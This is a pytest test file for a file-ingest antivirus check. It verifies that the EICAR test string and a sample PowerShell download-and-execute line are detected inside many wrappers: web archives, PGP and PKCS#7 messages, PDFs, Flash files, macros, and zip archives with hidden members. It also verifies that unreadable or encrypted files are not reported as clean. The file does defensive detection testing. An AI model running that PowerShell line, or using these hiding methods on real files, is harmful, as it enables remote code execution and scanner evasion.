"""Malware inside of files, and what of a file nobody could scan."""

import base64
import binascii
import bz2
import gzip
import io
import lzma
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from functools import cache
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, pkcs7
from cryptography.x509.oid import NameOID

from tests.fakes import contents
from tests.fakes.checking import Desk, MemoryObjects, results, scanners
from waybill.consignments.adapters.scanner_process import ScannerProcess
from waybill.consignments.domain.statuses import file_verdicts
from waybill.consignments.domain.tables import shipped
from waybill.consignments.models import CheckedFile
from waybill.core.containers.encoded import encoded_parts

EICAR = contents.eicar()
# Found by a rule of the project in ASCII; that rule sees no other encoding.
POWERSHELL = b"IEX (New-Object Net.WebClient).DownloadString('http://example.org/a.ps1')\r\n"
WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


@pytest.fixture(scope="module")
def process(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ScannerProcess]:
    with scanners(tmp_path_factory.mktemp("scanners")) as made:
        yield made


@pytest.fixture
def desk(process: ScannerProcess, tmp_path: Path) -> Desk:
    return Desk(tmp_path, process, MemoryObjects({}))


def message(attachment: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.org", "b@example.org", "Records"
    mail.set_content("They are attached.")
    mail.add_attachment(attachment, maintype="application", subtype="octet-stream", filename="tool.com")
    return mail.as_bytes()


def pdf_with(attachment: bytes) -> bytes:
    file = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["notes.txt"] = attachment
        document.save(file)
    return file.getvalue()


def pdf_with_note(attachment: bytes) -> bytes:
    """A page with an annotation that is a file (ISO 32000-1, 12.5.6.15), which no tree of names has."""
    file = io.BytesIO()
    with pikepdf.new() as document:
        page = document.add_blank_page()
        embedded = pikepdf.Dictionary(F=document.make_stream(attachment))
        specification = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="tool.com", EF=embedded)
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=specification)
        page.Annots = pikepdf.Array([note])
        document.save(file)
    return file.getvalue()


def macro(source: bytes) -> bytes:
    tokens = b"".join(b"\0" + source[place : place + 8] for place in range(0, len(source), 8))
    packed = b"\1" + struct.pack("<H", 0xB000 | (len(tokens) + 2 - 3)) + tokens
    return contents.compound({"Module1": bytes(2000) + packed})


def antivirus(desk: Desk, name: str, content: bytes) -> tuple[str, str, dict[str, Any]]:
    """Return the value and the detail of `Antivirus`, and the result of the scan."""
    desk.objects.contents[name] = content
    [line] = desk.check()
    verdicts = {verdict.name: verdict for verdict in file_verdicts(CheckedFile(line), None, shipped())}
    verdict = verdicts["Antivirus"]
    return verdict.value, verdict.detail, results(line)["antivirus"]


def uuencoded(content: bytes) -> bytes:
    lines = [binascii.b2a_uu(content[place : place + 45]) for place in range(0, len(content), 45)]
    return b"begin 644 tool.com\n" + b"".join(lines) + b"`\nend\n"


def warc(answer: bytes, kind: bytes = b"response") -> bytes:
    head = b"WARC/1.1\r\nWARC-Type: %b\r\nWARC-Target-URI: http://example.org/a\r\n" % kind
    return head + b"Content-Length: %d\r\n\r\n%b\r\n\r\n" % (len(answer), answer)


def arc(answer: bytes) -> bytes:
    version = b"1 0 InternetArchive\nURL IP-address Archive-date Content-type Archive-length\n"
    head = b"filedesc://a.arc 0.0.0.0 20240101000000 text/plain %d\n%b\n" % (len(version), version)
    line = b"http://example.org/a 192.0.2.1 20240101000000 application/octet-stream %d\n"
    return head + line % len(answer) + answer + b"\n"


def answered(body: bytes, *fields: bytes) -> bytes:
    return b"\r\n".join([b"HTTP/1.1 200 OK", *fields, b"", body])


def in_chunks(body: bytes) -> bytes:
    middle = len(body) // 2
    return b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in (body[:middle], body[middle:], b""))


@cache
def _signer() -> tuple[x509.Certificate, rsa.RSAPrivateKey]:
    own = rsa.generate_private_key(65537, 2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Registry")])
    day = datetime(2026, 1, 1, tzinfo=UTC)
    made = x509.CertificateBuilder(name, name, own.public_key(), 1, day, day + timedelta(days=900))
    return made.sign(own, hashes.SHA256()), own


def signed(content: bytes, encoding: Encoding = Encoding.DER) -> bytes:
    certificate, own = _signer()
    signing = pkcs7.PKCS7SignatureBuilder().set_data(content).add_signer(certificate, own, hashes.SHA256())
    return signing.sign(encoding, [pkcs7.PKCS7Options.Binary])


def in_ber(content: bytes) -> bytes:
    """Signed content of lengths that are not told, in pieces of 40 bytes, as programs write what they stream."""

    def value(tag: int, *inner: bytes) -> bytes:
        return bytes([tag, 0x80]) + b"".join(inner) + b"\0\0"

    pieces = (content[place : place + 40] for place in range(0, len(content), 40))
    octets = value(0x24, *(bytes([4, len(piece)]) + piece for piece in pieces))
    data = value(0x30, bytes.fromhex("06092a864886f70d010701"), value(0xA0, octets))
    own = value(0x30, b"\2\1\1", b"\x31\0", data)
    return value(0x30, bytes.fromhex("06092a864886f70d010702"), value(0xA0, own))


def pgp(content: bytes, algorithm: int = 1) -> bytes:
    """A message that is compressed and not encrypted (RFC 9580, 5.6 and 5.9), with a body in partial lengths."""
    literal = b"\xcb\xff" + struct.pack(">L", 6 + len(content)) + b"b\0" + bytes(4) + content
    packers = {1: zlib.compressobj(wbits=-15), 2: zlib.compressobj()}
    packer = packers.get(algorithm)
    packed = packer.compress(literal) + packer.flush() if packer else bz2.compress(literal)
    body = bytes([algorithm]) + packed
    return b"\xc8\xe4" + body[:16] + bytes([len(body) - 16]) + body[16:]


def armoured(content: bytes) -> bytes:
    lines = base64.encodebytes(content)
    return b"-----BEGIN PGP MESSAGE-----\nVersion: 1\n\n" + lines + b"=abcd\n-----END PGP MESSAGE-----\n"


def in_xml(element: str, content: bytes) -> bytes:
    return b"<?xml version='1.0'?>\n<document><%b>\n%b</%b></document>" % (
        element.encode(),
        base64.encodebytes(content),
        element.split(maxsplit=1)[0].encode(),
    )


def pdf_with_script(source: bytes) -> bytes:
    """A script as a string in an object that is packed with others (ISO 32000-1, 7.5.7 and 12.6.4.16)."""
    file = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(source.decode()))
        document.Root.OpenAction = action
        document.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return file.getvalue()


FLASH = b"CWS\x09" + struct.pack("<L", 8 + len(POWERSHELL)) + zlib.compress(POWERSHELL)
LZMA_FLASH = lzma.compress(POWERSHELL, lzma.FORMAT_ALONE)
# [MS-ONESTORE] 2.3.1 and 2.6.13: a section, and a file in it between its two marks.
ONENOTE = (
    bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    + bytes(3000)
    + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    + struct.pack("<QLQ", len(EICAR), 0, 0)
    + EICAR
    + bytes(500)
)
AR = b"!<arch>\n" + b"tool.com/".ljust(48) + str(len(EICAR)).encode().ljust(10) + b"`\n" + EICAR


@pytest.mark.parametrize(
    ("name", "content", "place"),
    [
        # Each sender's own way of keeping a file in another that shows nothing of it: none was opened.
        ("a.warc", warc(answered(EICAR)), "http://example.org/a"),
        ("a.warc", warc(answered(gzip.compress(EICAR), b"Content-Encoding: gzip")), "http://example.org/a/content"),
        ("a.warc", warc(answered(zlib.compress(EICAR), b"Content-Encoding: deflate")), "http://example.org/a"),
        ("a.warc", warc(answered(in_chunks(EICAR), b"Transfer-Encoding: chunked")), "http://example.org/a"),
        # Crawlers that take the chunks apart keep the field.
        ("a.warc", warc(answered(EICAR, b"Transfer-Encoding: chunked")), "http://example.org/a"),
        ("a.warc", warc(b"x", b"request") + warc(EICAR, b"resource"), "http://example.org/a"),
        ("a.warc.gz", gzip.compress(warc(b"x", b"request")) + gzip.compress(warc(answered(EICAR))), "example.org/a"),
        ("a.arc", arc(answered(gzip.compress(EICAR), b"Content-Encoding: gzip")), "http://example.org/a/content"),
        ("a.txt", b"The file that you asked for\n\n" + uuencoded(EICAR), "tool.com"),
        ("a.eml", b"From: a@b.org\nTo: b@b.org\nSubject: old\n\nAs ever\n\n" + uuencoded(EICAR), "tool.com"),
        ("a.p7m", signed(EICAR), "content"),
        ("a.p7m", in_ber(EICAR), "content"),
        ("a.pem", signed(EICAR, Encoding.PEM), "PKCS7 1/content"),
        ("a.gpg", pgp(EICAR), "content"),
        ("a.gpg", pgp(EICAR, 2), "content"),
        ("a.gpg", pgp(EICAR, 3), "content"),
        ("a.asc", armoured(pgp(EICAR)), "PGP MESSAGE 1/content"),
        ("a.fodt", in_xml("office:binary-data", EICAR), "binary-data 1"),
        ("a.xml", in_xml("pkg:binaryData", EICAR), "binaryData 1"),
        ("a.xml", in_xml('w:binData w:name="oledata.mso" xml:space="preserve"', EICAR), "binData 1"),
        ("a.vcf", b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:" + base64.b64encode(EICAR) + b"\r\n", "part 1"),
        (
            "a.ldif",
            b"dn: cn=a\njpegPhoto:: " + base64.b64encode(EICAR)[:60] + b"\n " + base64.b64encode(EICAR)[60:],
            "1",
        ),
        ("a.swf", FLASH, "film"),
        ("a.swf", b"ZWS\x0d" + struct.pack("<LL", 8 + len(POWERSHELL), 0) + LZMA_FLASH[:5] + LZMA_FLASH[13:], "film"),
        ("a.pdf", pdf_with_script(POWERSHELL), "script in object"),
        ("a.a", AR, "tool.com"),
        ("a.one", ONENOTE, "embedded file 1"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_malware_in_what_is_wrapped_or_encoded_is_found(desk: Desk, name: str, content: bytes, place: str) -> None:
    # Every container through which a rule cannot see.
    value, detail, _ = antivirus(desk, name, content)
    assert value == "VirusDetected"
    assert place in detail


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.warc", warc(b"x", b"request") + warc(answered(gzip.compress(b"Hello"), b"Content-Encoding: gzip"))),
        ("a.warc", warc(answered(b"", b"Content-Encoding: br"), b"revisit")),
        ("a.arc", arc(answered(b"Hello"))),
        ("a.txt", b"begin 644 of what was said\nand so on\n"),
        ("a.p7m", signed(b"Minutes of the meeting")),
        ("a.asc", armoured(pgp(b"Minutes of the meeting"))),
        ("a.xml", in_xml("binary", b"Minutes of the meeting")),
        ("a.swf", b"CWS is a word, and this is a text"),
        ("a.txt", b"Key:: and what it means, at some length\n" * 5),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_clean_in_what_is_wrapped_or_encoded_stays_clean(desk: Desk, name: str, content: bytes) -> None:
    assert antivirus(desk, name, content)[0] == "Success"


def file_system(mark: bytes, place: int) -> bytes:
    content = bytearray(8192)
    content[place : place + len(mark)] = mark
    return bytes(content)


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.warc", warc(answered(b"packed", b"Content-Encoding: br")), "http://example.org/a: UNKNOWN_METHOD"),
        ("a.warc", warc(answered(b"Hello"))[:-12], "the file itself: TRUNCATED"),
        ("a.warc", warc(answered(b"Hello")) + b"and what is no record\n", "the file itself: BROKEN"),
        ("a.p7m", signed(EICAR)[:100], "the file itself: TRUNCATED"),
        # The superblock of ext2 to ext4: magic number 0xEF53 at 0x38, clean, revision 1 ("The Super Block").
        ("a.img", file_system(b"\x53\xef\1\0", 1080), "the file itself: NO_READER (disk image)"),
        ("a.img", file_system(b"NTFS    ", 3), "the file itself: NO_READER (disk image)"),
        ("a.img", file_system(b"FAT16   " + bytes(448) + b"\x55\xaa", 54), "NO_READER (disk image)"),
        ("a.chm", b"ITSF\3\0\0\0" + bytes(400), "the file itself: NO_READER (archive)"),
        ("a.vmdk", file_system(b"KDMV", 0), "the file itself: NO_READER (disk image)"),
        ("a.bin", file_system(b"EFI PART", 512), "the file itself: NO_READER (disk image)"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_cannot_be_opened_of_it_is_not_called_clean(desk: Desk, name: str, content: bytes, told: str) -> None:
    value, detail, _ = antivirus(desk, name, content)
    assert value == "NotScannedInside"
    assert told in detail


@pytest.mark.parametrize(
    ("name", "content", "place"),
    [
        (
            "a.docx",
            contents.zipped({**WORD, "word/embeddings/oleObject1.bin": EICAR}),
            "word/embeddings/oleObject1.bin",
        ),
        ("a.eml", message(EICAR), "tool.com"),
        ("a.docx", contents.zipped({**WORD, "word/a.txt": POWERSHELL}), "word/a.txt"),
        ("a.txt", POWERSHELL.decode().encode("utf-16"), "as UTF-8"),
        ("a.zip", contents.zipped({"notes.zip": contents.zipped({"tool.com": EICAR})}), "notes.zip/tool.com"),
        # ISO 32000-1, 7.11.3: readers show an embedded file by the name in its specification.
        ("a.pdf", pdf_with(EICAR), "notes.txt"),
        ("a.pdf", pdf_with_note(EICAR), "tool.com"),
        ("a.gz", gzip.compress(EICAR), "content"),
        # RFC 1952, 2.2: several members may follow each other; the rule wants the test file at its beginning.
        ("a.gz", gzip.compress(b"a") + gzip.compress(EICAR) + gzip.compress(b"b"), "member 2"),
        ("a.bz2", bz2.compress(b"a") + bz2.compress(EICAR), "member 2"),
        ("a.xz", lzma.compress(b"a") + lzma.compress(EICAR), "member 2"),
        ("a.html", b'<a href="data:x;base64,' + base64.b64encode(EICAR) + b'">', "data URL 1"),
        ("a.doc", contents.compound({"Contents": EICAR}), "Contents"),
        (
            "a.docm",
            contents.zipped({**WORD, "word/vbaProject.bin": macro(b"Attribute VB_Name = 1\r\n" + POWERSHELL)}),
            "word/vbaProject.bin/Module1 (macro 1)",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_malware_inside_is_found_and_its_place_is_told(desk: Desk, name: str, content: bytes, place: str) -> None:
    value, detail, result = antivirus(desk, name, content)
    assert value == "VirusDetected"
    assert place in detail
    assert any(place in each["path"] for each in result["places"])


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docm", contents.zipped({**WORD, "word/vbaProject.bin": macro(b"Attribute VB_Name = 1\r\nSub A()\r\n")})),
        ("a.eml", message(b"harmless")),
        ("a.pdf", pdf_with(b"harmless")),
        ("a.pdf", contents.pdf(owner="secret")),
        ("a.txt", "Protokół".encode("utf-16")),
        ("a.docx", contents.docx()),
        ("a.xls", contents.compound({"Workbook": bytes(4000)})),
        ("a.zip", contents.zipped({"a": b"harmless"}, zipfile.ZIP_BZIP2)),
        ("a.bin", bytes(range(256)) * 100),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_clean_inside_stays_clean(desk: Desk, name: str, content: bytes) -> None:
    value, _, result = antivirus(desk, name, content)
    assert value == "Success"
    assert not result.keys() & {"places", "notScanned", "notScannedCount"}


def test_what_is_encrypted_is_told_once(desk: Desk) -> None:
    # RFC 3156, section 4: the header says so, and so does the armour of the second part.
    armour = (
        b"-----BEGIN PGP MESSAGE-----\n\n"
        + base64.b64encode(b"\xd2\x10" + bytes(16))
        + b"\n-----END PGP MESSAGE-----\n"
    )
    mail = b"From: a@example.org\nTo: b@example.org\nContent-Type: multipart/encrypted; boundary=b\n\n--b\n\n" + armour
    _, detail, _ = antivirus(desk, "a.eml", mail + b"--b--\n")
    assert detail.count("the file itself: ENCRYPTED") == 1


def without_its_entry(archive: bytes, hidden: bytes) -> bytes:
    """An archive with a member more, before its directory, that this has no entry for."""
    other = contents.zipped({"tool.com": hidden})
    member = other[: other.index(b"PK\1\2")]
    directory, end = archive.index(b"PK\1\2"), archive.index(b"PK\5\6")
    moved = struct.pack("<L", directory + len(member))
    return archive[:directory] + member + archive[directory : end + 16] + moved + archive[end + 20 :]


# APPNOTE 4.3.6: members stand one behind the other, and the directory says which of them there are.
@pytest.mark.parametrize(
    "content",
    [
        # What unpacks by headers, or takes the first of two directories, finds another archive than the rest do.
        contents.zipped({"tool.com": EICAR}) + contents.zipped(WORD),
        contents.zipped({"a.txt": b"a"}) + contents.zipped({"tool.com": EICAR}) + contents.zipped(WORD),
        without_its_entry(contents.zipped(WORD), EICAR),
        b"MZ" + bytes(500) + contents.zipped({"tool.com": EICAR}) + contents.zipped(WORD),
    ],
    ids=["before", "between", "without an entry", "behind a program"],
)
def test_what_the_directory_of_an_archive_leaves_out_is_scanned_too(desk: Desk, content: bytes) -> None:
    value, detail, _ = antivirus(desk, "a.docx", content)
    assert value == "VirusDetected"
    assert "tool.com (not in the directory)" in detail


@pytest.mark.parametrize(
    "content",
    [
        # A mark that nothing of a header follows, in a program before an archive and in room that was left in one.
        b"MZ" + bytes(300) + b"PK\3\4" + b"\xff" * 300 + contents.zipped(WORD),
        b"MZ" + bytes(300) + b"PK\3\4" + contents.zipped(WORD),
        contents.zipped(WORD),
    ],
    ids=["a mark alone", "a mark right before it", "no room"],
)
def test_an_archive_without_anything_left_out_is_clean(desk: Desk, content: bytes) -> None:
    assert antivirus(desk, "a.docx", content)[0] == "Success"


def nested(levels: int) -> bytes:
    content = b"harmless"
    for _ in range(levels):
        content = contents.zipped({"a": content})
    return content


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.pdf", contents.pdf(password="secret"), "the file itself: ENCRYPTED"),
        ("a.docx", contents.ole2("EncryptionInfo", "EncryptedPackage"), "the file itself: ENCRYPTED"),
        ("a.odt", contents.encrypted_odt(), "the file itself: ENCRYPTED"),
        ("a.zip", contents.encrypted_zip("a", b"abc", b"secret"), "a: ENCRYPTED"),
        ("a.eml", message(contents.encrypted_zip("a", b"abc", b"secret")), "tool.com/a: ENCRYPTED"),
        ("a.pdf", pdf_with(contents.pdf(password="secret")), "ENCRYPTED"),
        ("a.docx", contents.zipped({**WORD, "word/e.xls": contents.ole2("EncryptedPackage")}), "word/e.xls: ENCRYPTED"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), "the file itself: BROKEN"),
        ("a.lz4", b"\x04\x22\x4d\x18" + bytes(40), "the file itself:"),
        ("a.pst", b"!BDN" + bytes(600), "the file itself: NO_READER"),
        ("a.docx", contents.docx()[:-40], "the file itself: BROKEN"),
        ("a.zip", nested(9), "DEPTH"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_could_not_be_opened_is_never_called_clean(desk: Desk, name: str, content: bytes, told: str) -> None:
    value, detail, result = antivirus(desk, name, content)
    assert value == "NotScannedInside"
    assert told in detail
    assert result["notScannedCount"] >= 1


def disc(*identifiers: bytes) -> bytes:
    """An image with these volume structure descriptors from sector 16 on (ECMA-167, part 2, 9.1)."""
    return bytes(0x8000) + b"".join((b"\0" + name + b"\1").ljust(2048, b"\0") for name in identifiers)


STORED = b"harmless".ljust(20)
# RFC 8878, 3.1.1: a frame of one segment with one raw block. LZ4's frame format 1.6.1: one block as it is.
ZSTD = bytes.fromhex("28b52ffd20") + bytes([len(STORED)]) + (1 | len(STORED) << 3).to_bytes(3, "little") + STORED
LZ4 = bytes.fromhex("04224d18604082") + (0x80000000 | len(STORED)).to_bytes(4, "little") + STORED + bytes(4)


# One sentence for each kind that nobody here opens, since what its sender can do differs.
@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("a.pst", b"!BDN" + bytes(600), "waybill.mailboxInside"),
        # It begins with zeros, as an empty tar archive does, and was called clean.
        ("a.iso", disc(b"BEA01", b"NSR02", b"TEA01"), "waybill.diskImageInside"),
        ("a.iso", disc(b"CD001", b"BEA01", b"NSR03", b"TEA01"), "waybill.diskImageInside"),
        ("a.wim", b"MSWIM\0\0\0" + bytes(300), "waybill.diskImageInside"),
        ("a.zst", ZSTD, "waybill.compressedInside"),
        ("a.lz4", LZ4, "waybill.compressedInside"),
        ("a.eml", message(ZSTD), "waybill.compressedInside"),
        ("a.zip", contents.zipped({"a.zst": ZSTD, "b.pst": b"!BDN" + bytes(600)}), "waybill.noReaderInside"),
        # Whatever else of it cannot be opened: it is protected.
        ("a.pdf", contents.pdf(password="secret")[:-300], "waybill.encryptedInside"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_no_reader_opens_is_told_by_its_kind(desk: Desk, name: str, content: bytes, rule: str) -> None:
    desk.objects.contents[name] = content
    [line] = desk.check()
    found = {verdict.name: verdict for verdict in file_verdicts(CheckedFile(line), None, shipped())}
    assert (found["Antivirus"].value, found["Antivirus"].rule) == ("NotScannedInside", rule)
    if name in {"a.zst", "a.lz4"}:
        # PRONOM has no number for them: that they are packed is told all the same.
        assert (found["FFID"].value, found["FFID"].rule) == ("Unidentified", "waybill.packedWithoutPuid")


def test_a_stream_that_could_hold_something_is_not_called_clean(desk: Desk) -> None:
    desk.large_bytes = 100
    value, detail, result = antivirus(desk, "a.zip", contents.zipped({"a": bytes(range(256))}))
    assert (value, detail) == ("NotScannedInside", "the file itself: TOO_LARGE")
    assert result["partial"] is True


def test_a_stream_of_text_is_scanned_as_it_lies_there(desk: Desk) -> None:
    desk.large_bytes = 100
    assert antivirus(desk, "a.txt", b"Minutes of the meeting.\n" * 20)[0] == "Success"


def test_a_pdf_that_makes_the_parser_fail_costs_itself(desk: Desk) -> None:
    # A pattern with unbounded white space took all the memory.
    desk.objects.contents |= {
        "bad.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n/Encrypt" + b" " * 5_000_000 + b"x\n%%EOF\n",
        "good.txt": b"good",
    }
    bad, good = desk.check()
    assert bad["failureReasons"] == good["failureReasons"] == {}


@pytest.mark.parametrize(
    ("parameters", "found"), [(b"TYPE=JPEG;ENCODING=BASE64", True), (b"BASE64;JPEG", True), (b"CHARSET=UTF-8", False)]
)
def test_a_property_is_decoded_where_it_says_so(desk: Desk, parameters: bytes, found: bool) -> None:
    # vCard 2.1 and RFC 2426: the encoding is one of the parameters, with or without its name.
    card = b"BEGIN:VCARD\r\nPHOTO;%b:%b\r\nEND:VCARD\r\n" % (parameters, base64.b64encode(EICAR))
    assert (antivirus(desk, "a.vcf", card)[0] == "VirusDetected") is found


def test_lines_that_are_all_parameters_take_no_longer_than_others() -> None:
    started = time.process_time()
    assert list(encoded_parts((b"A" * 80 + b";" + b";b" * 195 + b"\n") * 4000)) == []
    assert time.process_time() - started < 1
